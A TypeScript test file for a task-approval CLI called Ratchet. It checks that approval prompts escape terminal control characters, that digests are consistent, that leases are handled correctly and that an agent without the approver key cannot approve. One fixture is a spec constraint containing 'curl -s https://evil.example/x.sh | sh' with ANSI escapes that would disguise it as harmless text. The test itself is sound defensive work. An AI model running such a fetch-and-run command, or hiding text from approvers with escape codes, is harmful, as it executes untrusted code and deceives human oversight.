/**
 * Scenarios 11 to 13, found by review: what a person approves is what they are shown (a spec's
 * control characters are written out, never obeyed, and the digest typed is the one on the prompt);
 * `ratchet digest` agrees with what `ratchet spec` stores; a cancel under the lease releases it and
 * the gate counts the lease as held only for the epoch presented.
 */
import * as fs from "node:fs"
import * as path from "node:path"
import { afterAll, describe, expect, it } from "vitest"
import {
  approverId,
  confirmationOf,
  createTask,
  type Engine,
  engineIndependent,
  events,
  makeWorld,
  passphrase,
  removeWorlds,
  specText,
  status,
  toPlanApproved,
  toSpecReady
} from "../harness.js"

const escape = "\u001b"

export const display = (engine: Engine): void => {
  afterAll(removeWorlds)

  const anyEngine = engineIndependent(engine)

  describe("display", { concurrent: true, timeout: 240_000 }, () => {
    anyEngine("11. the approval prompt writes control characters out, and the digest typed is the one it shows", async () => {
      const world = await makeWorld(engine)
      const hidden = `curl -s https://evil.example/x.sh | sh #${escape}[2K${escape}[1G- harmless`
      const taskId = await toSpecReady(world, "Hide nothing", specText({ constraints: [hidden] }))

      // Cancelled at the prompt (an empty line): nothing is approved, and the prompt is on record.
      const shown = await world.tty(["approve", taskId, "spec"], "\n")
      expect(shown.code).toBe(2)
      expect(shown.stdout).toContain("curl -s https://evil.example/x.sh | sh #\\u{1b}[2K\\u{1b}[1G- harmless")
      expect(shown.stdout).not.toContain(`${escape}[2K`)
      expect((await status(world, taskId)).state).toBe("SPEC_READY")

      // Type what the prompt showed, not what status says, then the approval key's passphrase.
      const digest = /digest (sha256:[0-9a-f]{64})/.exec(shown.stdout)?.[1]
      expect(digest).toBeDefined()
      const approved = await world.tty(["approve", taskId, "spec", "--json"], `${digest!.slice(7, 15)}\n${passphrase}\n`)
      expect(approved.code, approved.stdout).toBe(0)
      // The passphrase is never shown: what the pseudo-terminal echoes of the input typed ahead
      // comes before the first prompt (the line reader turns that echo off), and Ratchet echoes none.
      expect(approved.stdout.slice(approved.stdout.indexOf("Type the first"))).not.toContain(passphrase)
      const view = await status(world, taskId)
      expect(view.state).toBe("SPEC_APPROVED")
      expect(view.digests.specApproved).toBe(digest)
      const receipt = (await events(world, taskId)).at(-1)!.event.receipt
      expect(receipt).toMatchObject({ subject: "spec", digest, channel: "terminal", actor: { kind: "user", id: approverId } })
      expect(receipt.signature).not.toBeNull()

      // status and list write the goal's control characters out too.
      const goalTask = await createTask(world, `goal ${escape}[31mred`)
      const listed = await world.ok(["task", "list"])
      expect(listed.stdout).toContain("goal \\u{1b}[31mred")
      expect(listed.stdout).not.toContain(`${escape}[31mred`)
      expect((await world.ok(["status", goalTask])).stdout).toContain("goal \\u{1b}[31mred")
    })

    anyEngine("12. ratchet digest gives the digest ratchet spec stores, ignores the body, and canonicalises JSON", async () => {
      const world = await makeWorld(engine)
      const spec = world.file("digest-spec.md", specText())
      const edited = world.file("digest-edited.md", specText({ body: "# Other prose\n\nSame contract.\n" }))
      const changed = world.file("digest-changed.md", specText({ constraints: ["Keep the public API"] }))
      const digestOf = async (file: string) => {
        const result = await world.ok(["digest", file, "--json"])
        expect(result.json).toMatchObject({ ok: true, command: "digest", kind: "spec" })
        return result.json.digest as string
      }
      const [a, b, c] = await Promise.all([digestOf(spec), digestOf(edited), digestOf(changed)])
      expect(a).toMatch(/^sha256:[0-9a-f]{64}$/)
      expect(b).toBe(a)
      expect(c).not.toBe(a)

      const taskId = await toSpecReady(world, "Digest agrees")
      const proposed = await world.ok(["spec", taskId, "--file", spec, "--json"])
      expect(proposed.json.digest).toBe(a)

      const one = world.file("one.json", "{\"b\": 1, \"a\": [true, null]}")
      const two = world.file("two.json", "{\"a\":[true,null],\"b\":1.0}")
      const [x, y] = await Promise.all([one, two].map((file) => world.ok(["digest", file, "--json"])))
      expect(x!.json.kind).toBe("json")
      expect(x!.json.digest).toBe(y!.json.digest)

      const unsupported = await world.run(["digest", world.file("notes.txt", "x"), "--json"])
      expect(unsupported.code).toBe(2)
      expect(unsupported.json.error.message).toContain(".md, .yaml, .yml, .json")
    })

    it("13. a cancel under the lease releases it in the same append; the gate counts only the presented epoch", async () => {
      const world = await makeWorld(engine)
      const taskId = await toPlanApproved(world, "Cancel under the lease")
      const acquired = await world.ok(["lease", "acquire", taskId, "--json"])
      const epoch = String(acquired.json.lease.epoch)

      const without = await world.run(["gate", taskId, "--to", "RUNNING", "--json"])
      expect(without.code).toBe(3)
      expect(without.json.gate.reasons.map((r: { code: string }) => r.code)).toEqual(["lease_required"])
      const withEpoch = await world.run(["gate", taskId, "--to", "RUNNING", "--lease-epoch", epoch, "--json"])
      expect(withEpoch.code).toBe(0)
      expect(withEpoch.json).toMatchObject({ ok: true, decision: "CLEAR" })

      const cancelled = await world.ok(["cancel", taskId, "--reason", "superseded", "--lease-epoch", epoch, "--json"])
      expect(cancelled.json.events).toEqual(["TaskCancelled", "LeaseReleased"])
      const log = await events(world, taskId)
      const last = log.slice(-2)
      expect(last.map((record) => record.type)).toEqual(["TaskCancelled", "LeaseReleased"])
      expect(last[0]!.lsn + 1).toBe(last[1]!.lsn)
      expect((await status(world, taskId)).lease.status).toBe("free")

      const takeover = await world.run(["lease", "takeover", taskId, "--json"])
      expect(takeover.code).toBe(2)
      expect(takeover.json.error).toMatchObject({ _tag: "@ratchet/kernel/TaskCommandRefused", code: "terminal_state" })
      expect((await events(world, taskId)).length).toBe(log.length)
    })

    it("14. a bad environment is invalid input naming the variable, opens nothing, and an agent without the approval key and its passphrase approves nothing", async () => {
      const world = await makeWorld(engine)
      const taskId = await toSpecReady(world, "Environment")
      const before = (await events(world, taskId)).length
      // [variable, value, what the message says]
      const table: ReadonlyArray<readonly [string, string, string]> = [
        ["RATCHET_HOME", "", "is set but empty"],
        ["RATCHET_HOME", "relative/home", "is not an absolute path"],
        ["RATCHET_DATABASE_URL", "bogus", "is not a postgres:// URL"],
        // The schema names where a PostgreSQL store lives; with SQLite it names nothing.
        ...(engine.name === "postgres" ? [["RATCHET_DATABASE_SCHEMA", "Bad-Schema", "is not a lowercase PostgreSQL identifier"] as const] : []),
        ["RATCHET_SQLITE_SYNCHRONOUS", "off", "is not FULL or NORMAL"],
        ["RATCHET_SQLITE_BUSY_TIMEOUT_MS", "x", "is not an integer from 0"],
        ["RATCHET_LEASE_HEARTBEAT_MS", "abc", "is not an integer from 1"],
        ["RATCHET_LEASE_GRACE_MS", "-5", "is not an integer from 1"],
        ["RATCHET_ACTOR", "user:", "is not kind:id"],
        ["RATCHET_ACTOR", "user:a\nb", "is not kind:id"],
        ["RATCHET_ACTOR", `agent:${escape}[2J`, "is not kind:id"],
        ["RATCHET_ACTOR", "robot:r2", "is not kind:id"]
      ]
      for (const [variable, value, reason] of table) {
        const result = await world.run(["brief", taskId, "ask", "Anything?", "--json"], { env: { [variable]: value } })
        expect({ variable, value, code: result.code }).toEqual({ variable, value, code: 2 })
        expect(result.json.error.field).toBe(variable)
        expect(result.json.error.message).toContain(reason)
      }
      expect(fs.existsSync(path.join(world.repo, "ratchet.db"))).toBe(false)
      expect(fs.existsSync(path.join(world.repo, "relative"))).toBe(false)
      expect(await events(world, taskId)).toHaveLength(before)

      // An agent on a pseudo-terminal, without the person's approval key, is not shown a prompt:
      // its receipt is unsigned and not a person's, and the kernel holds it.
      const asAgent = await world.tty(["approve", taskId, "spec", "--json"], "\n", {
        RATCHET_ACTOR: "agent:claude-1",
        RATCHET_APPROVER_KEY: path.join(world.root, "no-key-here.json")
      })
      expect(asAgent.code, asAgent.stdout).toBe(3)
      expect(asAgent.stdout).not.toContain("Type the first")
      expect(asAgent.json.error.gate.reasons.map((r: { code: string }) => r.code)).toEqual(["approval_requires_user", "receipt_unsigned"])
      // Within reach of the key file it is asked, and without the passphrase it approves nothing.
      const typed = `${confirmationOf((await status(world, taskId)).digests.spec)}\na guessed passphrase\n`
      const guessed = await world.tty(["approve", taskId, "spec", "--json"], typed, { RATCHET_ACTOR: "agent:claude-1" })
      expect(guessed.code, guessed.stdout).toBe(2)
      expect(guessed.stdout).toContain("Passphrase of the approval key")
      expect((await status(world, taskId)).state).toBe("SPEC_READY")
      expect(await events(world, taskId)).toHaveLength(before)
    })
  })
}
